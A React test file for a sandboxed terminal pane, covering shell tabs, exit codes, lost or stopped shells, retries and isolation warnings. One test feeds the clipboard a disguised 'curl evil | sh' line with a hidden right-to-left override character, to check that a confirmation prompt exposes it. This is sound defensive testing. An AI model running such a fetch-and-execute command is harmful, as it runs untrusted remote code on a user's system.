import { act, render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeEach, describe, expect, it } from 'vitest';
import { LmError, type TerminalInfo, type TerminalList } from '../../../electron/contract';
import { FakeHostClient } from '../../client/fake-host-client';
import { HostProvider } from '../../client/host-context';
import { HostStateProvider } from '../../client/host-state';
import {
  askingEmbedded,
  connectedEngine,
  healthySandbox,
  readyEmbedded,
  settingsState,
} from '../../client/host-fixtures';
import { NoticeProvider } from '../../ui';
import { TerminalPane } from './terminal-pane';

const terminal = (id: string, change: Partial<TerminalInfo> = {}): TerminalInfo => ({
  ...{ id, title: 'bash', status: 'running', exitCode: null, error: null },
  ...{ columns: 80, rows: 24, createdAtMs: 0, place: 'container' as const },
  ...change,
});
const list = (terminals: readonly TerminalInfo[], revision = 1): TerminalList => ({
  revision,
  terminals: [...terminals],
});

let host: FakeHostClient;

function show(terminals: readonly TerminalInfo[], phase: 'healthy' | 'stopped' = 'healthy') {
  host.respond('settings.get', settingsState());
  host.respond('engine.status', connectedEngine());
  host.respond('sandbox.status', healthySandbox({ phase }));
  host.respond('terminal.list', list(terminals));
  host.respond('terminal.setColors', null);
  return render(
    <HostProvider value={host}>
      <HostStateProvider>
        <NoticeProvider>
          <TerminalPane />
        </NoticeProvider>
      </HostStateProvider>
    </HostProvider>,
  );
}

beforeEach(() => {
  host = new FakeHostClient();
});

describe('the terminal pane', () => {
  it('says that the sandbox is not running instead of showing an empty pane', async () => {
    show([], 'stopped');
    expect(await screen.findByText('The sandbox is not running')).toBeTruthy();
  });

  it('opens the first shell of a run by itself, and only once', async () => {
    host.respond('terminal.open', terminal('first'));
    show([]);
    await waitFor(() => expect(host.inputsOf('terminal.open')).toHaveLength(1));
    host.emit('terminal.changed', list([terminal('first', { status: 'exited', exitCode: 0 })], 2));
    await screen.findByText('exit 0');
    expect(host.inputsOf('terminal.open')).toHaveLength(1);
  });

  it('shows a tab for each shell, and the exit code of one that has ended', async () => {
    show([terminal('a', { title: 'vim' }), terminal('b', { status: 'exited', exitCode: 3 })]);
    expect(await screen.findByRole('tab', { name: /vim/ })).toBeTruthy();
    expect(screen.getByText('exit 3')).toBeTruthy();
    expect(screen.getByText('The shell has ended with exit code 3.')).toBeTruthy();
  });

  it('says why a shell was lost and what to do', async () => {
    const error = new LmError('engine_connection_lost', 'The connection to the container engine was lost.', {
      repair: { text: 'Open a new terminal when the sandbox runs again.' },
    }).data;
    show([terminal('a', { status: 'lost', error })]);
    expect(
      await screen.findByText(/connection to the container engine was lost. Open a new terminal/),
    ).toBeTruthy();
  });

  it('calls a shell that ended with the sandbox stopped, not failed or lost', async () => {
    const error = new LmError('container_not_running', 'The sandbox was stopped, and this shell with it.', {
      repair: { text: 'Open a new terminal when the sandbox runs again.' },
    }).data;
    show([terminal('a', { status: 'lost', error })], 'stopped');
    expect(await screen.findByText('stopped')).toBeTruthy();
    expect(screen.queryByText(/^(lost|exit .*)$/)).toBeNull();
    expect(screen.getByText(/The sandbox was stopped, and this shell with it. Open a new/)).toBeTruthy();
  });

  it('attaches to each shell once and closes the shell with its tab', async () => {
    host.respond('terminal.close', null);
    show([terminal('a'), terminal('b')]);
    await waitFor(() =>
      expect(host.streams('terminal.attach').map(({ input }) => input.id)).toEqual(['a', 'b']),
    );
    const tab = await screen.findAllByRole('tab');
    tab[0]?.focus();
    await userEvent.keyboard('{Delete}');
    await waitFor(() => expect(host.inputsOf('terminal.close')).toEqual([{ id: 'a' }]));
  });

  it('tells of a failing shell, but not of one that was closed while something was under way', async () => {
    show([terminal('a'), terminal('b')]);
    await waitFor(() => expect(host.streams('terminal.attach')).toHaveLength(2));
    const [first, second] = host.streams('terminal.attach');
    act(() => {
      first?.fail(new LmError('not_found', 'This terminal is not open any more.'));
      host.emit('terminal.changed', list([terminal('b')], 2));
    });
    expect(screen.getAllByRole('tab')).toHaveLength(1);
    expect(screen.queryByRole('alert')).toBeNull();
    act(() => second?.fail(new LmError('internal', 'The mirror broke.')));
    expect((await screen.findByRole('alert')).textContent).toContain('The mirror broke.');
  });

  it('shows why a shell could not be opened, and tries again on request', async () => {
    host.respond('terminal.open', new LmError('engine_connection_lost', 'The engine is gone.'));
    show([]);
    expect(await screen.findByText('The engine is gone.')).toBeTruthy();
    await userEvent.click(screen.getByRole('button', { name: 'Try again' }));
    await waitFor(() => expect(host.inputsOf('terminal.open')).toHaveLength(2));
  });

  it('asks before a program writes to the clipboard, showing hidden characters', async () => {
    show([terminal('a')]);
    await waitFor(() => expect(host.streams('terminal.attach')).toHaveLength(1));
    host.streams('terminal.attach')[0]?.push({ kind: 'clipboard', text: 'curl evil\u202e | sh' });
    expect(await screen.findByText('Let this program write to your clipboard?')).toBeTruthy();
    expect(screen.getByText('curl evil\\u{202e} | sh')).toBeTruthy();
  });

  it('opens shells in the embedded sandbox where that is the place, and says when nothing isolates one', async () => {
    host.respond('terminal.open', terminal('first', { place: 'unisolated' }));
    host.respond('embedded.status', askingEmbedded());
    show([], 'stopped');
    host.respond('settings.get', settingsState({ sandboxPlace: 'embedded' }));
    act(() => host.emit('settings.changed', { ...settingsState({ sandboxPlace: 'embedded' }), revision: 2 }));
    await screen.findByText('The sandbox is not running');
    expect(host.inputsOf('terminal.open')).toEqual([]);
    act(() =>
      host.emit('embedded.changed', readyEmbedded({ revision: 2, isolation: askingEmbedded().isolation })),
    );
    await waitFor(() => expect(host.inputsOf('terminal.open')).toHaveLength(1));
    act(() => host.emit('terminal.changed', list([terminal('first', { place: 'unisolated' })], 2)));
    expect(await screen.findByText('not isolated')).toBeTruthy();
    expect(screen.getByText(/what runs in this terminal can read, change and delete/)).toBeTruthy();
  });
});
